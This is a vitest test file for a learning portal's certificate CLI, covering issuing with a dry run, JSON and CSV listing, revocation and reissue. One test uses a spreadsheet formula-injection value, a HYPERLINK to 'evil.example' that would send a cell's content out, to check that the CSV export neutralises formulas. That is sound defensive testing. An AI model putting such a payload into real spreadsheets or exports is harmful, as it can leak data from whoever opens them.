import { Readable } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { issueDueCertificates } from '#app/modules/certificates/issue.server.ts'
import { unprotectFormula } from '#app/modules/csv/formula.ts'
import { CsvReader } from '#app/modules/csv/reader.server.ts'
import { db, query, sql } from '#db/client.ts'
import { portal } from '#tests/cli.ts'
import { assignCourse, assignProgram, makeCourse, makeLearner, makeProgram, recordWatched } from '#tests/factories.ts'

// `portal certificates …` in a child process, on this test file's database: certificates given by a backfill
// (a dry run first), listed as JSON and CSV, revoked and re-issued, with the exit codes scripts rely on.

// each command is a child process starting Node and tsx: a test of several needs more than the default time
const SLOW = { timeout: 180_000 }

const ISSUER = 'Northwind Data Academy'

async function certificatesOn(kind: 'course' | 'program', id: string) {
  const { Course, Program } = await db()
  const on = { certificates: true, certificateIssuer: ISSUER }
  await (kind === 'course' ? Course.update(on, { where: { id } }) : Program.update(on, { where: { id } }))
}

const HELD = sql(`SELECT count(*)::int AS n FROM certificates WHERE course_id = :courseId`)
const held = async (courseId: string) => (await query<{ n: number }>(HELD, { courseId }))[0].n

/** A learner who watched the whole of a course of two 100-second videos (certificates on for it, or not). */
async function completed({ title, on }: { title?: string; on: boolean }) {
  const course = await makeCourse({ title, videos: [{ duration: 100 }, { duration: 100 }] })
  if (on) await certificatesOn('course', course.id)
  const learner = await makeLearner()
  await assignCourse(learner.id, course.id)
  for (const video of course.videos) await recordWatched(learner.id, course.id, video, 100)
  // where the job would run
  await issueDueCertificates()
  return { course, name: `${learner.firstName} ${learner.lastName}`.trim() }
}

type Listed = { code: string; state: string; title: string; learnerName: string; revokedReason: string | null }

describe('portal certificates issue', () => {
  it('gives the certificates complete learners lack: a dry run lists them, a second run gives none', SLOW, async () => {
    const { course, name } = await completed({ on: false })

    const off = await portal(['certificates', 'issue', '--course', course.title])
    expect(off).toMatchObject({
      code: 1,
      stdout: '',
      stderr: 'portal: Certificates are off for this course: switch them on first.\n',
    })

    // switched on after the learner completed: the job gives nothing, a backfill does
    await certificatesOn('course', course.id)
    await issueDueCertificates()
    expect(await held(course.id)).toBe(0)

    const dry = await portal(['certificates', 'issue', '--course', course.title.toLowerCase(), '--dry-run'])
    expect(dry.code).toBe(0)
    expect(dry.stdout).toBe(`LEARNER\n${name}\n`)
    expect(dry.stderr).toBe(`Dry run, nothing given: 1 certificate to give for "${course.title}".\n`)
    expect(await held(course.id)).toBe(0)

    const given = await portal(['certificates', 'issue', '--course', course.id])
    expect(given.code).toBe(0)
    expect(given.stdout).toMatch(new RegExp(`^LEARNER +CODE\\n${name} +([0-9A-Z]{4}-){6}[0-9A-Z]{2}\\n$`))
    expect(given.stderr).toBe(`Gave 1 certificate for "${course.title}".\n`)
    expect(await held(course.id)).toBe(1)

    const again = await portal(['certificates', 'issue', '--course', course.id, '--json'])
    expect(again.code).toBe(0)
    expect(JSON.parse(again.stdout)).toEqual({ dryRun: false, issued: [] })
  })

  it('names a program by its title', SLOW, async () => {
    const course = await makeCourse({ videos: [{ duration: 60 }] })
    const program = await makeProgram([course.id])
    const learner = await makeLearner()
    await assignProgram(learner.id, program.id)
    await assignCourse(learner.id, course.id)
    await recordWatched(learner.id, course.id, course.videos[0], 60)
    await certificatesOn('program', program.id)
    const [{ title }] = await query<{ title: string }>(sql(`SELECT title FROM programs WHERE id = :id`), {
      id: program.id,
    })

    const dry = await portal(['certificates', 'issue', '--program', title, '--dry-run', '--json'])
    expect(dry.code).toBe(0)
    expect(JSON.parse(dry.stdout)).toEqual({
      dryRun: true,
      issued: [expect.objectContaining({ userId: learner.id, title, code: null })],
    })
  })

  it('takes exactly one of --course and --program (exit 2)', SLOW, async () => {
    const course = await makeCourse()
    const neither = await portal(['certificates', 'issue'])
    expect(neither).toMatchObject({ code: 2, stdout: '', stderr: 'portal: pass one of --course or --program.\n' })
    const both = await portal(['certificates', 'issue', '--course', course.id, '--program', course.id])
    expect(both).toMatchObject({ code: 2, stdout: '', stderr: 'portal: pass one of --course or --program.\n' })
    const unknown = await portal(['certificates', 'issue', '--course', 'No Such Course'])
    expect(unknown).toMatchObject({ code: 2, stderr: 'portal: No course with the id or title "No Such Course".\n' })
  })
})

describe('portal certificates list and revoke', () => {
  it('lists as JSON and CSV (formulas neutralised), revokes once, and lists the revoked ones', SLOW, async () => {
    const formula = `=HYPERLINK("https://evil.example/?x="&A1) ${Date.now()}`
    const { course, name } = await completed({ title: formula, on: true })

    const json = await portal(['certificates', 'list', '--course', course.id, '--json'])
    expect(json.code).toBe(0)
    const [cert] = JSON.parse(json.stdout) as Listed[]
    expect(cert).toMatchObject({ state: 'valid', title: formula, learnerName: name, revokedReason: null })
    expect(cert.code).toMatch(/^([0-9A-Z]{4}-){6}[0-9A-Z]{2}$/)

    const csv = await portal(['certificates', 'list', '--course', course.id, '--csv'])
    expect(csv.code).toBe(0)
    const records = []
    for await (const record of new CsvReader(Readable.from([csv.stdout]))) records.push(record.cells)
    expect(records[0]).toEqual([
      'code',
      'state',
      'kind',
      'title',
      'learner',
      'issued',
      'hours',
      'issuer',
      'revoked at',
      'revoked reason',
      'verify URL',
    ])
    expect(records).toHaveLength(2)
    const [code, state, kind, title, learner, issued, hours, issuer, revokedAt, , verifyUrl] = records[1]
    expect({ code, state, kind, learner, hours, issuer, revokedAt }).toEqual({
      code: cert.code,
      state: 'valid',
      kind: 'course',
      learner: name,
      hours: '0.1',
      issuer: ISSUER,
      revokedAt: '',
    })
    expect(title).toBe(`'${formula}`)
    expect(unprotectFormula(title)).toBe(formula)
    expect(new Date(issued).toISOString()).toBe(issued)
    expect(verifyUrl).toMatch(new RegExp(`/verify/${cert.code}$`))

    const noReason = await portal(['certificates', 'revoke', cert.code])
    expect(noReason.code).toBe(2)
    expect(noReason.stderr).toContain("required option '--reason <text>' not specified")
    const blank = await portal(['certificates', 'revoke', cert.code, '--reason', ' '])
    expect(blank).toMatchObject({ code: 2, stderr: 'portal: --reason: Enter a reason.\n' })

    const unknown = await portal(['certificates', 'revoke', '0000-0000-0000-0000-0000-0000-00', '--reason', 'x'])
    expect(unknown).toMatchObject({ code: 1, stdout: '', stderr: 'portal: No certificate has this code.\n' })

    const revoked = await portal(['certificates', 'revoke', cert.code.toLowerCase(), '--reason', 'Shared account.'])
    expect(revoked).toMatchObject({ code: 0, stdout: '' })
    expect(revoked.stderr).toBe(`Revoked ${cert.code}, ${name}'s certificate of "${formula}".\n`)
    const twice = await portal(['certificates', 'revoke', cert.code, '--reason', 'Again.', '--json'])
    expect(twice).toMatchObject({ code: 1, stdout: '', stderr: 'portal: This certificate is revoked already.\n' })

    const listed = await portal(['certificates', 'list', '--course', course.title, '--state', 'revoked', '--json'])
    expect(listed.code).toBe(0)
    expect(JSON.parse(listed.stdout)).toEqual([
      expect.objectContaining({ code: cert.code, state: 'revoked', revokedReason: 'Shared account.' }),
    ])
    const wrong = await portal(['certificates', 'list', '--state', 'lost', '--limit', '0'])
    expect(wrong.code).toBe(2)
    expect(wrong.stderr).toContain('portal: --state: State must be valid or revoked.')
    expect(wrong.stderr).toContain('portal: --limit: Limit must be at least 1.')

    const reissued = await portal(['certificates', 'reissue', cert.code, '--json'])
    expect(reissued.code).toBe(0)
    const fresh = JSON.parse(reissued.stdout) as Listed
    expect(fresh).toMatchObject({ state: 'valid', title: formula, learnerName: name })
    expect(fresh.code).not.toBe(cert.code)
  })
})
